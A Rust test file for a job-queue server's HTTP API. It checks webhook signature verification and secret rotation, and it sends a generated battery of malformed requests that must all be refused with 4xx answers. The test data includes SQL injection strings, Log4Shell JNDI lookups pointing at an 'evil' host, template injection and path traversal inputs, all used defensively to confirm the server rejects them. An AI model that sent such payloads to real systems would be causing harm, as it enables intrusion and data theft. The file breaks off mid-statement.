//! `agentq serve` against hostile clients: Standard Webhooks deliveries (a retried delivery is
//! one operation, a thousand tampered ones are 401 and store nothing, a rotation accepts old and
//! new secrets), and a battery of generated malformed requests, each of which must be a 4xx
//! problem with a useful detail, store nothing, and leave the server serving.

use std::collections::BTreeMap;
use std::time::Duration;

use agentq_core::webhook::Secret;
use chrono::Utc;
use futures_util::StreamExt;
use reqwest::Method;
use reqwest::header::{HeaderName, HeaderValue};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::api::{Api, Reply, input_of, problem_shape, send, truncate, urlencode};
use crate::harness::TestApp;

/// One webhook delivery as sent (each header optional, so it can be left out).
#[derive(Clone)]
struct Delivery {
    id: Option<String>,
    timestamp: Option<String>,
    signature: Option<String>,
    body: Vec<u8>,
}

impl Delivery {
    /// A correctly signed delivery of `body`, timestamped `age_secs` ago.
    fn signed(secret: &Secret, id: &str, body: &[u8], age_secs: i64) -> Self {
        let ts = Utc::now().timestamp() - age_secs;
        Self {
            id: Some(id.to_string()),
            timestamp: Some(ts.to_string()),
            signature: Some(secret.sign(id, ts, body)),
            body: body.to_vec(),
        }
    }
}

async fn deliver(api: &Api, source: &str, d: &Delivery, what: &str) -> Reply {
    let mut rb = api
        .client
        .post(format!("{}/v1/webhooks/{source}", api.base))
        .header("content-type", "application/json")
        .body(d.body.clone());
    for (name, value) in [
        ("webhook-id", &d.id),
        ("webhook-timestamp", &d.timestamp),
        ("webhook-signature", &d.signature),
    ] {
        if let Some(v) = value {
            rb = rb.header(name, v.as_str());
        }
    }
    send(what.to_string(), rb).await
}

fn add_source(app: &TestApp, tenant: &str, source: &str, kind: &str) -> Secret {
    let v = app.agentq_json(&[
        "webhooks", "add", "--tenant", tenant, "--source", source, "--kind", kind, "--json",
    ]);
    Secret::parse(v["secret"].as_str().unwrap_or_default())
        .unwrap_or_else(|e| panic!("webhooks add printed no secret ({e}): {v}"))
}

async fn webhook_ops(app: &TestApp) -> i64 {
    sqlx::query_scalar("SELECT count(*) FROM operations WHERE dedupe_key LIKE 'webhook:%'")
        .fetch_one(&app.pool)
        .await
        .unwrap_or_else(|e| panic!("counting webhook operations: {e}"))
}

#[tokio::test]
async fn api_webhooks_accept_a_signed_delivery_once_and_old_and_new_secrets_after_a_rotation() {
    let mut app = TestApp::start().await;
    let (_, base) = app.serve().await;
    let api = Api::new(&base);
    let secret = add_source(&app, "acme", "crm", "echo");

    let body = br#"{"text":"from the crm"}"#;
    let first = deliver(
        &api,
        "crm",
        &Delivery::signed(&secret, "msg_2KWPBgLlAfxdpx2AI54pPJ85f1W", body, 0),
        "a signed delivery",
    )
    .await;
    let v = first.expect(202);
    let op = v["op_id"]
        .as_str()
        .unwrap_or_else(|| panic!("no op_id in {v}"))
        .to_string();
    assert_eq!(v["created"], true, "{v}");
    assert_eq!(
        v["status_url"],
        format!("/v1/operations/{op}").as_str(),
        "{v}"
    );
    assert_eq!(app.operation_count().await, 1);
    let view = app.operation(&op).await;
    assert_eq!((view.tenant.as_str(), view.kind.as_str()), ("acme", "echo"));
    assert_eq!(input_of(&app, &op).await, json!({ "text": "from the crm" }));
    assert_eq!(
        view.dedupe_key.as_deref(),
        Some("webhook:crm:msg_2KWPBgLlAfxdpx2AI54pPJ85f1W")
    );

    // The sender retries: the same webhook-id, a new timestamp and signature → the same operation.
    let retry = deliver(
        &api,
        "crm",
        &Delivery::signed(&secret, "msg_2KWPBgLlAfxdpx2AI54pPJ85f1W", body, 30),
        "the retried delivery",
    )
    .await
    .expect(200);
    assert_eq!(
        (retry["op_id"].as_str(), &retry["created"]),
        (Some(op.as_str()), &json!(false)),
        "{retry}"
    );
    assert_eq!(app.operation_count().await, 1, "one operation");

    // A header listing several signatures is accepted if one of them verifies.
    let mut several = Delivery::signed(&secret, "msg_several", body, 0);
    several.signature = Some(format!(
        "v1,bm90IHRoZSByaWdodCBvbmU= {}",
        several.signature.clone().unwrap_or_default()
    ));
    deliver(&api, "crm", &several, "several signatures")
        .await
        .expect(202);

    // A verified delivery whose body is not JSON, or not an input of the kind: refused.
    let r = deliver(
        &api,
        "crm",
        &Delivery::signed(&secret, "msg_not_json", b"text=hello", 0),
        "a signed body that is not JSON",
    )
    .await;
    r.problem(400, "invalid-request");
    let r = deliver(
        &api,
        "crm",
        &Delivery::signed(&secret, "msg_wrong_input", br#"{"txet":"typo"}"#, 0),
        "a signed body that is not an echo input",
    )
    .await;
    assert!(
        (400..500).contains(&r.status),
        "{}: {} {}",
        r.what,
        r.status,
        r.text()
    );
    problem_shape(&r).unwrap_or_else(|e| panic!("{e}"));
    // An unknown source: the 401 of a delivery its secret did not sign (it has none), so
    // sources cannot be enumerated.
    deliver(
        &api,
        "nosuch",
        &Delivery::signed(&secret, "msg_nosuch", body, 0),
        "an unknown source",
    )
    .await
    .problem(401, "unauthorized");
    assert_eq!(app.operation_count().await, 2);

    // Rotation: deliveries signed with the old secret and with the new one both go through.
    let rotated = app.agentq_json(&[
        "webhooks", "rotate", "--tenant", "acme", "--source", "crm", "--grace", "1h", "--json",
    ]);
    let new = Secret::parse(rotated["secret"].as_str().unwrap_or_default())
        .unwrap_or_else(|e| panic!("webhooks rotate printed no secret ({e}): {rotated}"));
    let old_op = deliver(
        &api,
        "crm",
        &Delivery::signed(&secret, "msg_old", br#"{"text":"old secret"}"#, 0),
        "signed with the old secret",
    )
    .await
    .expect(202);
    let new_op = deliver(
        &api,
        "crm",
        &Delivery::signed(&new, "msg_new", br#"{"text":"new secret"}"#, 0),
        "signed with the new secret",
    )
    .await
    .expect(202);
    assert_ne!(old_op["op_id"], new_op["op_id"]);
    assert_eq!(app.operation_count().await, 4);

    // Another tenant's source of the same name: its own secret, its own tenant.
    let beta = add_source(&app, "beta", "crm", "echo");
    let v = deliver(
        &api,
        "crm",
        &Delivery::signed(&beta, "msg_beta", br#"{"text":"for beta"}"#, 0),
        "signed with beta's secret",
    )
    .await
    .expect(202);
    let beta_op = v["op_id"].as_str().unwrap_or_default().to_string();
    assert_eq!(app.operation(&beta_op).await.tenant.as_str(), "beta");
    assert_eq!(app.operation_count().await, 5);

    // A verified body with text Postgres cannot store (a NUL): a 4xx, nothing stored.
    let before = app.operation_count().await;
    let r = deliver(
        &api,
        "crm",
        &Delivery::signed(&new, "msg_nul", br#"{"text":"a\u0000b"}"#, 0),
        "a signed body with a NUL escape Postgres cannot store",
    )
    .await;
    assert!(
        (400..500).contains(&r.status),
        "{}: {} {}",
        r.what,
        r.status,
        r.text()
    );
    problem_shape(&r).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(app.operation_count().await, before);
    app.cleanup().await;
}

/// The ten ways a delivery is tampered with, cycled through.
fn tampered(secret: &Secret, i: usize) -> (&'static str, Delivery) {
    let id = format!("msg_tampered_{i}");
    let body = format!(r#"{{"text":"tampered {i}"}}"#).into_bytes();
    let good = Delivery::signed(secret, &id, &body, 0);
    let now = Utc::now().timestamp();
    let at = |ts: i64| {
        let mut d = good.clone();
        d.timestamp = Some(ts.to_string());
        d.signature = Some(secret.sign(&id, ts, &body));
        d
    };
    let sig = good.signature.clone().unwrap_or_default();
    match i % 10 {
        0 => {
            let mut d = good;
            let byte = i % d.body.len();
            d.body[byte] ^= 0x01;
            ("a flipped body byte", d)
        }
        1 => (
            "a wrong secret",
            Delivery::signed(&Secret::generate(), &id, &body, 0),
        ),
        2 => ("a stale timestamp", at(now - 400 - (i as i64 % 3600))),
        3 => ("a future timestamp", at(now + 400 + (i as i64 % 3600))),
        4 => ("no webhook-id", Delivery { id: None, ..good }),
        5 => (
            "no webhook-timestamp",
            Delivery {
                timestamp: None,
                ..good
            },
        ),
        6 => (
            "no webhook-signature",
            Delivery {
                signature: None,
                ..good
            },
        ),
        7 => {
            let cut = 1 + (i / 10) % (sig.len() - 4);
            (
                "a truncated signature",
                Delivery {
                    signature: Some(sig[..sig.len() - cut].to_string()),
                    ..good
                },
            )
        }
        8 => {
            let b64 = sig.trim_start_matches("v1,").to_string();
            let garbage = match (i / 10) % 7 {
                0 => "garbage".to_string(),
                1 => "v1,".to_string(),
                2 => "v1,AAAA".to_string(),
                3 => format!("v2,{b64}"),
                4 => format!("v1 {b64}"),
                5 => b64,
                _ => "v1,Zm9yZ2VkIHNpZ25hdHVyZSBvZiB0aGlydHktdHdvIGI=".to_string(),
            };
            (
                "a garbage signature",
                Delivery {
                    signature: Some(garbage),
                    ..good
                },
            )
        }
        _ => {
            // The signature of another timestamp, or a timestamp that is not a number.
            let ts = if i % 20 == 9 {
                (now + 1).to_string()
            } else {
                "soon".to_string()
            };
            (
                "a timestamp changed after signing",
                Delivery {
                    timestamp: Some(ts),
                    ..good
                },
            )
        }
    }
}

#[tokio::test]
async fn api_webhooks_refuse_a_thousand_tampered_deliveries_and_store_nothing() {
    let mut app = TestApp::start().await;
    let (server, base) = app.serve().await;
    let api = Api::new(&base);
    let secret = add_source(&app, "acme", "crm", "echo");
    let before = app.operation_count().await;

    let started = std::time::Instant::now();
    let replies: Vec<(&'static str, Reply)> = futures_util::stream::iter(0..1000)
        .map(|i| {
            let (how, d) = tampered(&secret, i);
            let api = &api;
            async move {
                (
                    how,
                    deliver(api, "crm", &d, &format!("delivery {i}: {how}")).await,
                )
            }
        })
        .buffer_unordered(32)
        .collect()
        .await;
    println!(
        "1000 tampered webhook deliveries answered in {:.1} s",
        started.elapsed().as_secs_f64()
    );

    let mut failures = Vec::new();
    let mut by_how: BTreeMap<&str, usize> = BTreeMap::new();
    for (how, r) in &replies {
        *by_how.entry(how).or_default() += 1;
        if r.status != 401 {
            failures.push(format!(
                "{}: {} {}",
                r.what,
                r.status,
                truncate(&r.text(), 200)
            ));
            continue;
        }
        match problem_shape(r) {
            Ok(p)
                if p["type"]
                    .as_str()
                    .is_some_and(|t| t.ends_with("/problems/unauthorized")) => {}
            Ok(p) => failures.push(format!("{}: problem type {}", r.what, p["type"])),
            Err(e) => failures.push(e),
        }
    }
    assert_eq!(replies.len(), 1000);
    assert!(by_how.values().all(|&n| n == 100), "{by_how:?}");
    assert!(
        failures.is_empty(),
        "{} of 1000 tampered deliveries were not a 401 problem; first ones:\n{}",
        failures.len(),
        failures
            .iter()
            .take(30)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert_eq!(app.operation_count().await, before, "nothing was enqueued");
    assert_eq!(webhook_ops(&app).await, 0);

    // The source itself works: the refusals were about the tampering.
    deliver(
        &api,
        "crm",
        &Delivery::signed(&secret, "msg_genuine", br#"{"text":"genuine"}"#, 0),
        "a genuine delivery",
    )
    .await
    .expect(202);
    assert_eq!(app.operation_count().await, before + 1);

    // An unknown source answers exactly as a known one whose secret did not sign: a caller
    // cannot tell which sources exist.
    let forged = Delivery::signed(&Secret::generate(), "msg_probe", br#"{"text":"x"}"#, 0);
    let unsigned = Delivery {
        signature: None,
        ..forged.clone()
    };
    for d in [&forged, &unsigned] {
        let known = deliver(&api, "crm", d, "to a known source").await;
        let unknown = deliver(&api, "no-such-source", d, "to an unknown source").await;
        let too_long = deliver(&api, &"s".repeat(200), d, "to an overlong source").await;
        for r in [&unknown, &too_long] {
            assert_eq!(r.status, known.status, "{}", r.text());
            let (a, b) = (problem_shape(&known).unwrap(), problem_shape(r).unwrap());
            assert_eq!((&a["type"], &a["detail"]), (&b["type"], &b["detail"]));
        }
    }
    assert_eq!(app.operation_count().await, before + 1);
    assert!(
        !app.wait_exit(server, Duration::from_millis(10)).await,
        "the server is still running"
    );
    app.cleanup().await;
}

/// What a hostile request must get.
#[derive(Clone, Copy, Debug)]
enum Expect {
    /// Exactly this status (the contract names it).
    Status(u16),
    /// Some 4xx (the contract allows several).
    ClientError,
}

enum Body {
    None,
    Bytes(Vec<u8>),
    /// Sent with chunked transfer encoding (no Content-Length).
    Chunked(Vec<u8>),
}

/// One generated hostile request.
struct Case {
    what: String,
    method: Method,
    path: String,
    /// `None`: no Authorization header of the harness (a case may still set its own).
    token: Option<String>,
    content_type: Option<HeaderValue>,
    headers: Vec<(HeaderName, HeaderValue)>,
    body: Body,
    expect: Expect,
    /// The problem's detail or field must name this.
    mentions: Option<String>,
    /// The problem type must end in this slug.
    slug: Option<&'static str>,
    /// An x-request-id sent that must not come back.
    not_echoed: Option<Vec<u8>>,
}

impl Case {
    fn new(what: impl Into<String>, method: Method, path: impl Into<String>, token: &str) -> Self {
        Self {
            what: what.into(),
            method,
            path: path.into(),
            token: Some(token.to_string()),
            content_type: Some(HeaderValue::from_static("application/json")),
            headers: Vec::new(),
            body: Body::None,
            expect: Expect::ClientError,
            mentions: None,
            slug: None,
            not_echoed: None,
        }
    }

    /// `POST /v1/operations` with this body, as the producer.
    fn create(what: impl Into<String>, token: &str, body: impl Into<Vec<u8>>) -> Self {
        let mut c = Self::new(what, Method::POST, "/v1/operations", token);
        c.body = Body::Bytes(body.into());
        c
    }

    fn expect(mut self, status: u16) -> Self {
        self.expect = Expect::Status(status);
        self
    }

    fn mentions(mut self, s: &str) -> Self {
        self.mentions = Some(s.to_string());
        self
    }

    fn header(mut self, name: &'static str, value: HeaderValue) -> Self {
        self.headers.push((HeaderName::from_static(name), value));
        self
    }

    fn json(mut self, v: &Value) -> Self {
        self.body = Body::Bytes(v.to_string().into_bytes());
        self
    }

    /// Checks the answer; returns what is wrong with it.
    fn check(&self, r: &Reply) -> Result<(), String> {
        if !(400..500).contains(&r.status) {
            return Err(format!(
                "{}: {} (not a 4xx) {}",
                self.what,
                r.status,
                truncate(&r.text(), 200)
            ));
        }
        if let Expect::Status(s) = self.expect
            && r.status != s
        {
            return Err(format!(
                "{}: {} instead of {s}: {}",
                self.what,
                r.status,
                truncate(&r.text(), 200)
            ));
        }
        let p = problem_shape(r).map_err(|e| format!("{}: {e}", self.what))?;
        let detail = p["detail"].as_str().unwrap_or_default();
        if detail.contains("internal error") {
            return Err(format!("{}: a 4xx saying internal error: {p}", self.what));
        }
        if let Some(m) = &self.mentions {
            let field = p["field"].as_str().unwrap_or_default();
            if !detail.contains(m.as_str()) && !field.contains(m.as_str()) {
                return Err(format!(
                    "{}: the problem does not name {m:?}: {}",
                    self.what,
                    truncate(&p.to_string(), 300)
                ));
            }
        }
        if let Some(slug) = self.slug
            && !p["type"]
                .as_str()
                .is_some_and(|t| t.ends_with(&format!("/problems/{slug}")))
        {
            return Err(format!(
                "{}: type {} instead of {slug}",
                self.what, p["type"]
            ));
        }
        if r.headers.get("x-request-id").is_none_or(|v| v.is_empty()) {
            return Err(format!("{}: no x-request-id", self.what));
        }
        if let Some(sent) = &self.not_echoed
            && r.headers
                .get("x-request-id")
                .is_none_or(|v| v.as_bytes() == sent.as_slice() || v.is_empty())
        {
            return Err(format!(
                "{}: the invalid x-request-id was echoed or no id was generated",
                self.what
            ));
        }
        Ok(())
    }

    async fn run(&self, api: &Api) -> Result<Reply, String> {
        let mut rb = api
            .client
            .request(self.method.clone(), format!("{}{}", api.base, self.path));
        if let Some(t) = &self.token {
            rb = rb.bearer_auth(t);
        }
        if let Some(ct) = &self.content_type
            && !matches!(self.body, Body::None)
        {
            rb = rb.header("content-type", ct.clone());
        }
        for (name, value) in &self.headers {
            rb = rb.header(name.clone(), value.clone());
        }
        rb = match &self.body {
            Body::None => rb,
            Body::Bytes(b) => rb.body(b.clone()),
            Body::Chunked(b) => {
                let chunks: Vec<Result<Vec<u8>, std::io::Error>> =
                    b.chunks(64 * 1024).map(|c| Ok(c.to_vec())).collect();
                rb.body(reqwest::Body::wrap_stream(futures_util::stream::iter(
                    chunks,
                )))
            }
        };
        let resp = rb
            .send()
            .await
            .map_err(|e| format!("{}: no answer: {e:?}", self.what))?;
        let status = resp.status().as_u16();
        let headers = resp.headers().clone();
        // An event stream would not end: its head is the answer.
        let streaming = headers
            .get("content-type")
            .is_some_and(|v| v.as_bytes().starts_with(b"text/event-stream"));
        let body = if streaming {
            Vec::new()
        } else {
            resp.bytes()
                .await
                .map_err(|e| format!("{}: reading the answer: {e:?}", self.what))?
                .to_vec()
        };
        Ok(Reply {
            status,
            headers,
            body,
            what: self.what.clone(),
        })
    }
}

fn nested(depth: usize, open: &str, close: &str, inner: &str) -> String {
    format!("{}{inner}{}", open.repeat(depth), close.repeat(depth))
}

/// The generated battery: `producer` works operations, `operator` the DLQ, `admin` may name
/// any tenant; `dup_key` already names the operation `existing` (created with another body).
fn battery(
    producer: &str,
    operator: &str,
    admin: &str,
    dup_key: &str,
    existing: &str,
) -> Vec<Case> {
    let mut cases = Vec::new();
    let valid = json!({ "kind": "echo", "input": { "text": "x" } });
    let random = || Uuid::new_v4().to_string();

    // Wrong types (and out-of-range values) for each field: 422 naming the field.
    let wrong: Vec<(&str, Vec<Value>)> = vec![
        (
            "kind",
            vec![
                json!(1),
                json!(true),
                json!([]),
                json!({}),
                json!(1.5),
                json!(null),
            ],
        ),
        (
            "tenant",
            vec![json!(1), json!(true), json!([]), json!({}), json!(-1)],
        ),
        (
            "ordering_key",
            vec![json!(1), json!(true), json!([]), json!({ "k": 1 })],
        ),
        (
            "lane",
            vec![
                json!(1),
                json!("fast"),
                json!(""),
                json!([]),
                json!(true),
                json!("INTERACTIVE"),
            ],
        ),
        (
            "priority",
            vec![
                json!("high"),
                json!(1.5),
                json!(true),
                json!([]),
                json!(1e300),
                json!(99_999_999_999i64),
                json!(-99_999_999_999i64),
                json!(40_000),
                // There is no priority field: even a well-formed one is refused, naming it.
                json!(1),
                json!(0),
            ],
        ),
        (
            "concurrency_key",
            vec![json!(1), json!(true), json!([]), json!({ "k": 1 })],
        ),
        (
            "concurrency_limit",
            vec![
                json!("3"),
                json!(1.5),
                json!(true),
                json!(1e20),
                json!(99_999_999_999i64),
            ],
        ),
        (
            "max_attempts",
            vec![
                json!("3"),
                json!(0),
                json!(-1),
                json!(1.5),
                json!(true),
                json!(1e20),
                json!(99_999_999_999i64),
            ],
        ),
        (
            "run_at",
            vec![
                json!("tomorrow"),
                json!(12345),
                json!("2026-13-45T00:00:00Z"),
                json!(true),
                json!([]),
                json!(""),
            ],
        ),
        (
            "deadline",
            vec![
                json!("next week"),
                json!(12345),
                json!("2026-02-30T25:61:00Z"),
                json!(false),
                json!({}),
                json!(""),
            ],
        ),
    ];
    // A concurrency key and its limit come together, each within its range.
    let long_key = "k".repeat(257);
    for (pair, field) in [
        (
            json!({ "concurrency_key": "acct", "concurrency_limit": 0 }),
            "concurrency_limit",
        ),
        (
            json!({ "concurrency_key": "acct", "concurrency_limit": -1 }),
            "concurrency_limit",
        ),
        (
            json!({ "concurrency_key": "acct", "concurrency_limit": 1001 }),
            "concurrency_limit",
        ),
        (json!({ "concurrency_key": "acct" }), "concurrency_limit"),
        (json!({ "concurrency_limit": 2 }), "concurrency_key"),
        (
            json!({ "concurrency_key": "", "concurrency_limit": 2 }),
            "concurrency_key",
        ),
        (
            json!({ "concurrency_key": long_key, "concurrency_limit": 2 }),
            "concurrency_key",
        ),
    ] {
        let mut body = valid.clone();
        for (k, v) in pair.as_object().unwrap() {
            body[k] = v.clone();
        }
        cases.push(
            Case::create(format!("{pair}"), producer, body.to_string())
                .expect(422)
                .mentions(field),
        );
    }
    for (field, values) in wrong {
        for v in values {
            let mut body = valid.clone();
            body[field] = v.clone();
            cases.push(
                Case::create(format!("{field} = {v}"), producer, body.to_string())
                    .expect(422)
                    .mentions(field),
            );
        }
    }
    // Inputs the kind refuses.
    for input in [
        json!(1),
        json!("text"),
        json!([]),
        json!(null),
        json!({ "text": 5 }),
        json!({ "text": "x", "extra": 1 }),
        json!(true),
        json!({}),
    ] {
        cases.push(
            Case::create(
                format!("an echo input {input}"),
                producer,
                json!({ "kind": "echo", "input": input }).to_string(),
            )
            .expect(422),
        );
    }
    // A deadline already past.
    cases.push(Case::create(
        "a deadline in the past",
        producer,
        json!({ "kind": "echo", "input": { "text": "x" }, "deadline": "2020-01-01T00:00:00Z" })
            .to_string(),
    ));
    // Missing fields.
    for (body, field) in [
        (json!({}), None),
        (json!({ "kind": "echo" }), Some("input")),
        (json!({ "input": { "text": "x" } }), Some("kind")),
        (json!({ "tenant": "acme" }), None),
    ] {
        let mut c = Case::create(
            format!("missing fields: {body}"),
            producer,
            body.to_string(),
        )
        .expect(422);
        if let Some(f) = field {
            c = c.mentions(f);
        }
        cases.push(c);
    }
    // Bodies that are JSON but not an object.
    for body in [
        "[]",
        r#"[{"kind":"echo","input":{"text":"x"}}]"#,
        r#""echo""#,
        "123",
        "null",
        "true",
    ] {
        cases.push(Case::create(
            format!("a non-object body {body}"),
            producer,
            body,
        ));
    }
    // Unknown kinds, SQL and template injection among them: 422 naming the kind.
    let long_kind = "k".repeat(10_000);
    for kind in [
        "nope",
        "",
        "ECHO",
        "echo ",
        " echo",
        "echo\u{0}",
        "../echo",
        "echo;",
        "script'--",
        "'; DROP TABLE operations; --",
        "\" OR \"1\"=\"1",
        "1; SELECT pg_sleep(10)",
        "${jndi:ldap://x/a}",
        "{{7*7}}",
        "%s%s%s%n",
        long_kind.as_str(),
        "échø",
        "\u{202e}echo",
        "echo\n",
        "😀",
    ] {
        cases.push(
            Case::create(
                format!("kind {:?}", truncate(kind, 40)),
                producer,
                json!({ "kind": kind, "input": { "text": "x" } }).to_string(),
            )
            .expect(422)
            .mentions("kind"),
        );
    }
    // Unknown fields: 422 naming the field.
    for field in [
        "extra",
        "Kind",
        "KIND",
        "op_id",
        "id",
        "status",
        "tenant_id",
        "dedupe_key",
        "idempotency_key",
        "input_",
        "__proto__",
        "constructor",
        "batch_id",
        "epoch",
        "drop_table_operations",
    ] {
        let mut body = valid.clone();
        body[field] = json!(1);
        cases.push(
            Case::create(format!("unknown field {field}"), producer, body.to_string())
                .expect(422)
                .mentions(field),
        );
    }
    // Huge bodies: 413.
    let sized = |total: usize| {
        let frame = r#"{"kind":"echo","input":{"text":""}}"#;
        let text = "a".repeat(total - frame.len());
        json!({ "kind": "echo", "input": { "text": text } })
            .to_string()
            .into_bytes()
    };
    for (label, body) in [
        ("1 MiB + 1 byte", sized(1024 * 1024 + 1)),
        ("1.5 MiB", sized(1536 * 1024)),
        ("2 MiB", sized(2048 * 1024)),
        ("2 MiB of non-JSON", vec![b'{'; 2048 * 1024]),
    ] {
        let mut c = Case::create(format!("a body of {label}"), producer, body).expect(413);
        c.slug = Some("payload-too-large");
        cases.push(c);
    }
    let mut chunked = Case::create("a chunked 1.5 MiB body", producer, Vec::new()).expect(413);
    chunked.body = Body::Chunked(sized(1536 * 1024));
    cases.push(chunked);
    // Deep JSON.
    for (label, body) in [
        (
            "input nested 10,000 arrays deep",
            format!(
                r#"{{"kind":"echo","input":{}}}"#,
                nested(10_000, "[", "]", "1")
            ),
        ),
        (
            "input nested 10,000 objects deep",
            format!(
                r#"{{"kind":"echo","input":{}}}"#,
                nested(10_000, r#"{"a":"#, "}", "1")
            ),
        ),
        (
            "a body nested 10,000 arrays deep",
            nested(10_000, "[", "]", ""),
        ),
        (
            "input nested 100 deep",
            format!(
                r#"{{"kind":"echo","input":{}}}"#,
                nested(100, r#"{"text":"#, "}", r#""x""#)
            ),
        ),
        (
            "input nested 70 deep",
            format!(r#"{{"kind":"echo","input":{}}}"#, nested(70, "[", "]", "1")),
        ),
        ("10,000 unclosed brackets", "[".repeat(10_000)),
    ] {
        cases.push(Case::create(label, producer, body));
    }
    // Invalid UTF-8 and invalid text.
    for (label, body, expect) in [
        (
            "a 0xff byte",
            b"{\"kind\":\"echo\",\"input\":{\"text\":\"\xff\"}}".to_vec(),
            Some(400),
        ),
        (
            "a broken 2-byte sequence",
            b"{\"kind\":\"echo\",\"input\":{\"text\":\"\xc3\x28\"}}".to_vec(),
            Some(400),
        ),
        (
            "an overlong encoding",
            b"{\"kind\":\"echo\",\"input\":{\"text\":\"\xc0\xaf\"}}".to_vec(),
            Some(400),
        ),
        (
            "invalid UTF-8 in a key",
            b"{\"ki\xfend\":\"echo\",\"input\":{\"text\":\"x\"}}".to_vec(),
            Some(400),
        ),
        (
            "UTF-16",
            "{\"kind\":\"echo\",\"input\":{\"text\":\"x\"}}"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect(),
            Some(400),
        ),
        (
            "a lone surrogate escape",
            br#"{"kind":"echo","input":{"text":"\ud800"}}"#.to_vec(),
            None,
        ),
        (
            "a raw control character",
            b"{\"kind\":\"echo\",\"input\":{\"text\":\"a\x01b\"}}".to_vec(),
            Some(400),
        ),
        (
            "a NUL escape Postgres cannot store",
            br#"{"kind":"echo","input":{"text":"a\u0000b"}}"#.to_vec(),
            None,
        ),
    ] {
        let mut c = Case::create(format!("invalid text: {label}"), producer, body);
        if let Some(s) = expect {
            c = c.expect(s);
        }
        cases.push(c);
    }
    // Not JSON: 400.
    for body in [
        "",
        "hello",
        "{",
        r#"{"kind":"#,
        r#"{"kind":"echo","input":{"text":"x"}} trailing"#,
        r#"{"kind":"echo","input":{"text":"x"}}{"kind":"echo","input":{"text":"y"}}"#,
        "{'kind':'echo','input':{'text':'x'}}",
        "NaN",
        r#"{"kind":"echo","input":{"text":"x"},}"#,
        "kind=echo&input=x",
        "<operation kind=\"echo\"/>",
        "\0\0\0\0",
    ] {
        cases.push(Case::create(format!("not JSON: {body:?}"), producer, body).expect(400));
    }
    // Wrong content types around a valid body: 415.
    for ct in [
        Some("text/plain"),
        Some("text/html"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=x"),
        Some("application/xml"),
        Some("application/octet-stream"),
        Some("application/json-seq"),
        Some(""),
        None,
    ] {
        let mut c =
            Case::create(format!("content-type {ct:?}"), producer, valid.to_string()).expect(415);
        c.slug = Some("unsupported-media-type");
        c.content_type = ct.map(|v| HeaderValue::from_str(v).expect("a header value"));
        if ct.is_none() {
            c.content_type = None;
        }
        cases.push(c);
    }
    let mut c = Case::create("a non-ASCII content-type", producer, valid.to_string());
    c.content_type = Some(HeaderValue::from_bytes(b"application/json\xff").expect("obs-text"));
    cases.push(c);

    // Invalid ids in every per-id route: 400 (404 for a batch's name that no batch has).
    let long_id = "x".repeat(5000);
    let mut ids: Vec<String> = [
        "not-a-uuid",
        "1",
        "0",
        "-1",
        "' OR '1'='1",
        "1; DROP TABLE operations",
        "00000000-0000-0000-0000-00000000000g",
        "000000000000000000000000000000000",
        "{id}",
        "null",
        "...",
        "é",
    ]
    .iter()
    .map(|s| urlencode(s))
    .collect();
    ids.extend(
        ["%00", "%ff%fe", "%27%20OR%201%3D1--", "%E2%80%AE"]
            .iter()
            .map(|s| s.to_string()),
    );
    for id in &ids {
        let routes: Vec<(Method, String, &str, Option<Value>)> = vec![
            (Method::GET, format!("/v1/operations/{id}"), producer, None),
            (
                Method::GET,
                format!("/v1/operations/{id}/steps"),
                producer,
                None,
            ),
            (
                Method::GET,
                format!("/v1/operations/{id}/events"),
                producer,
                None,
            ),
            (
                Method::POST,
                format!("/v1/operations/{id}/signals/go"),
                producer,
                Some(json!({})),
            ),
            (
                Method::POST,
                format!("/v1/operations/{id}/cancel"),
                producer,
                Some(json!({})),
            ),
            (Method::GET, format!("/v1/dlq/{id}"), operator, None),
            (Method::GET, format!("/v1/batches/{id}"), operator, None),
            (
                Method::GET,
                format!("/v1/batches/{id}/report"),
                operator,
                None,
            ),
            (
                Method::POST,
                format!("/v1/batches/{id}/pause"),
                operator,
                Some(json!({})),
            ),
            (
                Method::POST,
                format!("/v1/dlq/{id}/retry"),
                operator,
                Some(json!({})),
            ),
            (
                Method::POST,
                format!("/v1/dlq/{id}/resolve"),
                operator,
                Some(json!({ "happened": false })),
            ),
            (
                Method::POST,
                format!("/v1/dlq/{id}/discard"),
                operator,
                Some(json!({ "reason": "x" })),
            ),
        ];
        // A batch's routes take its name too: a string that could be a name (and is none the
        // tenant has) is not found; one that could not is refused.
        let name_shaped = !id.is_empty()
            && id
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "_-.:".contains(c));
        for (method, path, token, body) in routes {
            let code = if name_shaped && path.starts_with("/v1/batches/") {
                404
            } else {
                400
            };
            let mut c = Case::new(
                format!("{method} {} (invalid id)", truncate(&path, 80)),
                method,
                path,
                token,
            )
            .expect(code);
            if let Some(b) = body {
                c = c.json(&b);
            }
            cases.push(c);
        }
    }
    let mut c = Case::new(
        "a 5000-character id",
        Method::GET,
        format!("/v1/operations/{long_id}"),
        producer,
    );
    c.expect = Expect::ClientError;
    cases.push(c);

    // SQL injection in the tenant (a producer may only name its own): 403 or 422.
    for tenant in [
        "' OR '1'='1",
        "acme'; DROP TABLE operations; --",
        "acme\u{0}",
        "*",
        "%",
        "acme OR 1=1",
        "ACME",
        "acme ",
        "../acme",
    ] {
        cases.push(Case::create(
            format!("tenant {tenant:?}"),
            producer,
            json!({ "kind": "echo", "input": { "text": "x" }, "tenant": tenant }).to_string(),
        ));
    }
    // SQL injection in Idempotency-Key, with a body that is refused anyway.
    let refused = json!({ "kind": "nope", "input": {} });
    for key in [
        "' OR '1'='1",
        "k'; DELETE FROM operations; --",
        "\" OR \"\"=\"",
        "1 UNION SELECT token_sha256 FROM api_tokens",
        "%00",
        "${jndi:ldap://evil/a}",
    ] {
        cases.push(
            Case::create(
                format!("Idempotency-Key {key:?}"),
                producer,
                refused.to_string(),
            )
            .header("idempotency-key", HeaderValue::from_static(key)),
        );
    }
    // Header abuse: non-ASCII bytes, overlong values.
    for (label, bytes) in [
        ("non-ASCII bytes", b"key-\xff\xfe".to_vec()),
        ("UTF-8 text", "clé-ü".as_bytes().to_vec()),
        ("a tab", b"a\tb".to_vec()),
        ("257 characters", vec![b'k'; 257]),
        ("10,000 characters", vec![b'k'; 10_000]),
        ("60,000 characters", vec![b'k'; 60_000]),
    ] {
        let mut c = Case::create(
            format!("Idempotency-Key with {label}"),
            producer,
            valid.to_string(),
        )
        .header(
            "idempotency-key",
